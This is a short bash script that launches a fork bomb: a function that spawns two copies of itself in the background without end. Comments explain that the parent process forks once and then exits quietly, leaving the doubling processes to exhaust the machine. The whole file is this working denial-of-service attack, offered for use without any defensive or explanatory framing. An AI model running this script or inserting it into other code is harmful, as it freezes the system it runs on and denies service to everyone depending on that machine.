#!/bin/bash
# Doubles itself for ever. The first process takes no part in it after its one fork, for bash tries a
# refused fork again for 15 s, and whom that hits is chance; it ends by itself, with nothing printed.
bomb() { bomb | bomb & }
exec 3<> <(:)
bomb &
read -r -t 0.2 <&3
exit 0
